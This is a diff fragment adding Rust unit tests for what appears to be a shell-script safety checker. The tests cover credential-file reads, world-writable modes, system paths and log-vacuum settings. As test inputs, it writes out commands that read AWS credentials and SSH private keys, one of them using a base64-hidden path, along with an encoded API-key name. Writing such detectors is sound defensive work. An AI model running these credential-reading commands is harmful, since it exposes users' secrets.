+            "for f in ~/.aws/credentials ~/.gitconfig; do cat \"$f\"; done\n"
+        ));
+        assert!(cred("load() { cat \"$HOME/$1\"; }\nload .ssh/id_rsa\n"));
+        assert!(cred(
+            "p=$(echo LnNzaC9pZF9yc2E= | base64 -d)\ncat \"$HOME/$p\"\n"
+        ));
+        assert!(!cred(
+            "dir=\"$HOME/.config/tool\"\ncat \"$dir/settings.json\"\n"
+        ));
+    }
+
+    #[test]
+    fn modes_paths_and_vacuums() {
+        assert!(is_world_writable_mode("777") && is_world_writable_mode("0666"));
+        assert!(is_world_writable_mode("o+w") && is_world_writable_mode("a=rwx"));
+        assert!(!is_world_writable_mode("755") && !is_world_writable_mode("u+x"));
+        assert!(is_system_path("/etc/cron.d", true) && is_system_path("/", true));
+        assert!(!is_system_path("/usr/local/bin", true) && !is_system_path("./etc", false));
+        assert!(is_system_path("/var/run/docker.sock", false));
+        assert!(!is_system_path("/var/www/html", true));
+        assert!(vacuum_keeps_nothing("time", "1s") && vacuum_keeps_nothing("size", "1K"));
+        assert!(!vacuum_keeps_nothing("time", "2weeks") && !vacuum_keeps_nothing("size", "500M"));
+        assert_eq!(
+            decode_echo("echo T1BFTkFJX0FQSV9LRVk= | base64 -d").as_deref(),
+            Some("OPENAI_API_KEY")
+        );
+        assert_eq!(variable_reference("${!x}", 0), Some((5, "x", true)));
+        assert_eq!(variable_reference("${x:-y}", 0), None);
+    }
 }
